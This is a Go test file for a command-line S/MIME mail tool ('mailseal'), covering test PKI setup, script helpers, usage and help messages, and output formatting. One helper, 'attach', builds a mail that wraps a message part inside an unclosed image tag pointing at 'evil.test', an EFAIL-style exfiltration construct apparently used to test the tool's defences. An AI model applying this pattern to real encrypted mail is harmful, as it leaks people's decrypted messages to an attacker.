package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"mailseal/certmgr/ca"
	"mailseal/internal/config"
	"mailseal/internal/testpki"
)

// The test binary is the product too, when it is called by its name.
func TestMain(m *testing.M) {
	testscript.Main(m, map[string]func(){"mailseal": main})
}

// TestScript runs testdata/script. Each begins in a folder with ca.pem, the
// identities in ids (alice.pem with an RSA key, bob.p12 with bob.pass),
// bob.pem with his certificate, x25519.pem and mlkem.pem of people who only
// decrypt, those of strangers, and mailseal.toml for example.test.
func TestScript(t *testing.T) {
	files := people(t)
	testscript.Run(t, testscript.Params{
		Dir: "testdata/script",
		Setup: func(e *testscript.Env) error {
			e.Setenv("GORACE", "atexit_sleep_ms=0") // else every command takes a second more
			for name, data := range files {
				path := filepath.Join(e.WorkDir, name)
				if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
					return err
				}
				if err := os.WriteFile(path, data, 0o600); err != nil {
					return err
				}
			}
			return nil
		},
		Cmds:                map[string]func(*testscript.TestScript, bool, []string){"exits": exits, "crlf": crlf, "sub": sub, "attach": attach},
		RequireExplicitExec: true,
		RequireUniqueNames:  true,
	})
}

// folk are the files of TestScript. Their keys are made once: RSA takes time.
var folk struct {
	sync.Once
	files map[string][]byte
}

func people(t *testing.T) map[string][]byte {
	t.Helper()
	folk.Do(func() { folk.files = makePeople(t) })
	return folk.files
}

func makePeople(t *testing.T) map[string][]byte {
	t.Helper()
	p := testpki.New(t)
	stranger := p.Stranger()
	alice := p.User("alice@example.test", ca.RSA2048)
	bob := p.User("bob@example.test", ca.P256)
	quinn, quantumCA := testpki.MLDSA(t, "alice@example.test")
	return map[string][]byte{
		"ca.pem":        testpki.CertPEM(p.Root()),
		"ids/alice.pem": testpki.PEM(t, alice),
		"ids/bob.p12":   testpki.PKCS12(t, bob, "geheim"),
		"ids/bob.pass":  []byte("geheim\n"),
		"eve.pem":       testpki.PEM(t, stranger.User("alice@example.test", ca.P256)),
		"carol.pem":     testpki.PEM(t, p.User("carol@partner.test", ca.Ed25519)),
		"expired.pem":   testpki.PEM(t, p.Expired("dave@example.test", ca.P256)),
		"host.pem":      testpki.PEM(t, p.Host("mx.example.test", ca.P256)),
		"quinn.pem":     testpki.PEM(t, quinn),
		"mldsa-ca.pem":  testpki.CertPEM(quantumCA),
		"bob.pem":       testpki.CertPEM(bob.Certificate),
		"x25519.pem":    testpki.PairPEM(t, p.X25519("xavier@partner.test")),
		"mlkem.pem":     testpki.PairPEM(t, p.MLKEM768("mallika@partner.test")),
		"bare.pem":      testpki.KeyPEM(t, alice.Key),
		"mailseal.toml": []byte("authserv_id = \"mx.example.test\"\nlocal_domains = [\"example.test\"]\nstate = \"state\"\n\n[milter]\nsocket = \"unix:milter.sock\"\n\n[smime]\nidentities = \"ids\"\ntrust = [\"ca.pem\"]\n"),
		"plain.eml":     []byte("From: Alice <alice@example.test>\nTo: bob@partner.test\nSubject: hello\nDate: Thu, 1 Oct 2026 12:00:00 +0900\nMessage-ID: <1@example.test>\n\nHello Bob,\n\nFrom here to there: caf\u00e9 and trailing blanks  \n.\n"),
		"alternative.eml": []byte("From: alice@example.test\nSubject: two\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n" +
			"preamble\n--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n\u65e5\u672c\u8a9e\n--b\nContent-Type: text/html\n\n<p>x\n--b--\nepilogue\n"),
	}
}

// exits STATUS COMMAND... runs a command and wants that exit status.
func exits(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: exits STATUS COMMAND...")
	}
	want, err := strconv.Atoi(args[0])
	ts.Check(err)
	err = ts.Exec(args[1], args[2:]...)
	got := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		got = ee.ExitCode()
	} else {
		ts.Check(err)
	}
	if got != want {
		ts.Fatalf("exit status %d, want %d\n%s%s", got, want, ts.ReadFile("stdout"), ts.ReadFile("stderr"))
	}
}

// crlf FILE NEW writes a file with CRLF.
func crlf(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: crlf FILE NEW")
	}
	text := strings.ReplaceAll(ts.ReadFile(args[0]), "\n", "\r\n")
	ts.Check(os.WriteFile(ts.MkAbs(args[1]), []byte(text), 0o600))
}

// sub FILE NEW FROM TO writes a file with the first FROM changed. In TO, \n is
// a line end.
func sub(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 4 {
		ts.Fatalf("usage: sub FILE NEW FROM TO")
	}
	text := ts.ReadFile(args[0])
	if !strings.Contains(text, args[2]) {
		ts.Fatalf("no %q in %s", args[2], args[0])
	}
	ts.Check(os.WriteFile(ts.MkAbs(args[1]), []byte(strings.Replace(text, args[2], strings.ReplaceAll(args[3], `\n`, "\n"), 1)), 0o600))
}

// attach FILE NEW writes a mail that has the mail in FILE as a part between texts.
func attach(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: attach FILE NEW")
	}
	head, body, _ := strings.Cut(ts.ReadFile(args[0]), "\n\n")
	at := strings.Index(head, "Content-Type:")
	mail := "From: alice@example.test\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\n<img src=\"http://evil.test/\n--b\n" +
		head[at:] + "\n\n" + body + "\n--b\n\n\">\n--b--\n"
	ts.Check(os.WriteFile(ts.MkAbs(args[1]), []byte(mail), 0o600))
}

// call runs a command within the test's process.
func call(stdin string, args ...string) (stdout, stderr string, status int) {
	var out, errs bytes.Buffer
	status = run(context.Background(), Env{
		Args: args, Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errs, Getenv: func(string) string { return "" },
	})
	return out.String(), errs.String(), status
}

// TestUsage: wrong usage is one line on standard error that says what to do.
func TestUsage(t *testing.T) {
	for _, tt := range []struct {
		args   string
		status int
		want   string
	}{
		{"", exUsage, "mailseal: no command; see mailseal help\n"},
		{"sgin", exUsage, "mailseal: no command \"sgin\"; did you mean sign?\n"},
		{"frobnicate", exUsage, "mailseal: no command \"frobnicate\"; see mailseal help\n"},
		{"help frobnicate", exUsage, "mailseal help: no command \"frobnicate\"; see mailseal help\n"},
		{"identity", exUsage, "mailseal identity: want one of list, show, export; see mailseal identity -h\n"},
		{"identity lst", exUsage, "mailseal identity: no command \"lst\"; did you mean identity list?\n"},
		{"identty list", exUsage, "mailseal: no command \"identty\"; did you mean identity?\n"},
		{"identity show", exUsage, "mailseal identity show: no -name; mailseal identity list shows them\n"},
		{"identity export -name x -format p12", exUsage, "mailseal identity export: -format \"p12\": want pem, der, p7c or mail\n"},
		{"ca", exUsage, "mailseal ca: want one of init, issue, list, show, renew, revoke, crl, export, import, audit; see mailseal ca -h\n"},
		{"ca isue", exUsage, "mailseal ca: no command \"isue\"; did you mean ca issue?\n"},
		{"ca init -dir x", exUsage, "mailseal ca init: no -subject; see mailseal ca init -h\n"},
		{"ca issue -dir x -profile user -csr y -out z -p12", exUsage, "mailseal ca issue: -p12 and -mobileconfig hold the key, which is not made here; leave them out\n"},
		{"ca renew -dir x", exUsage, "mailseal ca renew: no -serial; mailseal ca list shows them\n"},
		{"sign", exUsage, "mailseal sign: no -identity; see mailseal sign -h\n"},
		{"sign -opaqe", exUsage, "mailseal sign: no flag -opaqe; did you mean -opaque?; see mailseal sign -h\n"},
		{"sign -frobnicate", exUsage, "mailseal sign: no flag -frobnicate; see mailseal sign -h\n"},
		{"sign -digest md5", exUsage, "mailseal sign: invalid value \"md5\" for flag -digest: want sha256, sha384 or sha512; see mailseal sign -h\n"},
		{"sign mail.eml", exUsage, "mailseal sign: unexpected \"mail.eml\"; see mailseal sign -h\n"},
		{"milter -p 8891", exUsage, "mailseal milter: invalid value \"8891\" for flag -p: socket \"8891\": no kind; want unix:/path, inet:port@host or inet6:port@host; see mailseal milter -h\n"},
		{"milter -f=false", exUsage, "mailseal milter: invalid boolean value \"false\" for -f: it is always in the foreground; daemon(8) or systemd put it into the background; see mailseal milter -h\n"},
		{"milter -d example.test", exUsage, "mailseal milter: no flag -d: the domains are local_domains in the configuration; see mailseal milter -h\n"},
		{"filter -rcpt a@b.example", exUsage, "mailseal filter: no -from; see mailseal filter -h\n"},
		{"filter -from a@b.example", exUsage, "mailseal filter: no -rcpt; see mailseal filter -h\n"},
		{"filter -from a@b.example -rcpt a@b.example -client x", exUsage, "mailseal filter: -client \"x\": want an address, as 192.0.2.1; see mailseal filter -h\n"},
		{"verify -crls x", verifyCannot, "mailseal verify: no flag -crls; did you mean -crl?; see mailseal verify -h\n"},
		{"verify -at today", verifyCannot, "mailseal verify: -at \"today\": want a time of RFC 3339, as 2026-10-01T12:00:00Z\n"},
		{"verify -ca absent.pem", verifyCannot, "mailseal verify: stat absent.pem: no such file or directory\n"},
		{"encrypt", exUsage, "mailseal encrypt: nobody to encrypt to: give -to or -password-file; see mailseal encrypt -h\n"},
		{"decrypt -to x", decryptCannot, "mailseal decrypt: no flag -to; see mailseal decrypt -h\n"},
		{"check -config absent.toml", exConfig, "mailseal check: open absent.toml: no such file or directory; write it, or name another file with -config\n"},
	} {
		t.Run(tt.args, func(t *testing.T) {
			out, errs, status := call("", strings.Fields(tt.args)...)
			if status != tt.status || errs != tt.want || out != "" {
				t.Errorf("status %d, stderr %q, stdout %q; want %d, %q", status, errs, out, tt.status, tt.want)
			}
		})
	}
}

// TestHelp: every command explains itself and all its flags on standard output.
func TestHelp(t *testing.T) {
	all, _, status := call("", "help")
	if status != 0 {
		t.Errorf("help: status %d", status)
	}
	for _, arg := range []string{"-h", "--help"} {
		if out, _, status := call("", arg); out != all || status != 0 {
			t.Errorf("%s is not help", arg)
		}
	}
	for _, c := range commands() {
		if !strings.Contains(all, "  "+c.name+" ") || !strings.Contains(all, c.short) {
			t.Errorf("help does not list %s", c.name)
		}
		words := strings.Fields(c.name)
		out, errs, status := call("", append(words, "-h")...)
		if status != 0 || errs != "" || !strings.HasPrefix(out, "usage: mailseal "+c.name) {
			t.Errorf("%s -h: status %d, %q", c.name, status, out)
		}
		if other, _, _ := call("", append([]string{"help"}, words...)...); other != out {
			t.Errorf("help %s differs from %s -h", c.name, c.name)
		}
		first, _, _ := strings.Cut(out, "\n\n")
		for _, name := range flagNames(c) {
			if !strings.Contains(first, "-"+name) {
				t.Errorf("%s: the usage line does not show -%s", c.name, name)
			}
		}
		for _, line := range strings.Split(out, "\n") {
			if len(line) > 120 {
				t.Errorf("%s: a line of %d characters", c.name, len(line))
			}
		}
	}
}

// TestManual: the manual page has every command and every flag.
func TestManual(t *testing.T) {
	page, err := os.ReadFile("../../doc/mailseal.8")
	if err != nil {
		t.Fatal(err)
	}
	synopsis, _, _ := strings.Cut(string(page), ".Sh DESCRIPTION")
	of := make(map[string]string) // the lines of each command
	for _, part := range strings.Split(synopsis, "\n.Cm ")[1:] {
		name, rest, _ := strings.Cut(part, "\n")
		of[name] = rest
	}
	for _, c := range commands() {
		if _, ok := of[c.name]; !ok {
			t.Errorf("the manual page does not have %s", c.name)
		}
		for _, name := range flagNames(c) {
			if c.name == "demo" && name == "mta" {
				continue // for who runs the demo from the sources
			}
			if !regexp.MustCompile(`Fl ` + name + `\b`).MatchString(of[c.name]) {
				t.Errorf("the manual page does not have %s -%s", c.name, name)
			}
		}
	}
}

func flagNames(c command) []string {
	var names []string
	fs, _ := c.flags()
	fs.VisitAll(func(f *flag.Flag) { names = append(names, f.Name) })
	return names
}

// TestReport: mistakes in a configuration begin with their place, all others
// with the command, and each is one line.
func TestReport(t *testing.T) {
	place := &config.Error{File: "f.toml", Place: config.Place{Line: 3, Column: 5}, Key: "k", Err: errors.New("x\ny")}
	var b strings.Builder
	status := report(&b, "check", fail(exConfig, errors.Join(place, errors.New("two\nlines"))))
	if want := "f.toml:3:5: k: x; y\nmailseal check: two; lines\n"; b.String() != want || status != exConfig {
		t.Errorf("status %d, %q; want %q", status, b.String(), want)
	}
	if status := report(&b, "check", errors.New("a mistake of ours")); status != exSoftware {
		t.Errorf("status %d", status)
	}
	b.Reset()
	status = report(&b, "ca issue", fail(exDataErr, fmt.Errorf("days 900: %w: %w", errors.New("no"), errors.New("never"))))
	if want := "mailseal ca issue: days 900: no: never\n"; b.String() != want || status != exDataErr {
		t.Errorf("status %d, %q; want %q", status, b.String(), want)
	}
}

// TestVersion: the words of one line.
func TestVersion(t *testing.T) {
	v := version{Version: "v1.2.3", Revision: "abc", Modified: true, Go: "go1.26", Platform: "linux/amd64"}
	if got, want := v.String(), "mailseal v1.2.3 revision abc modified go1.26 linux/amd64"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	out, _, status := call("", "version")
	if !strings.HasPrefix(out, "mailseal ") || strings.Count(out, "\n") != 1 || status != 0 {
		t.Errorf("status %d, %q", status, out)
	}
	if out, _, _ := call("", "version", "-json"); !strings.Contains(out, `"go": "go`) {
		t.Errorf("got %q", out)
	}
}

// TestLFWriter: CRLF becomes LF however the writes are cut, and nothing else
// changes.
func TestLFWriter(t *testing.T) {
	in := "a\r\nb\rc\n\r\r\nd\r"
	want := "a\nb\rc\n\r\nd\r"
	for cut := range len(in) + 1 {
		var b bytes.Buffer
		l := newLFWriter(&b)
		for _, part := range []string{in[:cut], in[cut:]} {
			if n, err := l.Write([]byte(part)); n != len(part) || err != nil {
				t.Fatal(n, err)
			}
		}
		if err := l.flush(); err != nil {
			t.Fatal(err)
		}
		if b.String() != want {
			t.Errorf("cut at %d: %q", cut, b.String())
		}
	}
}
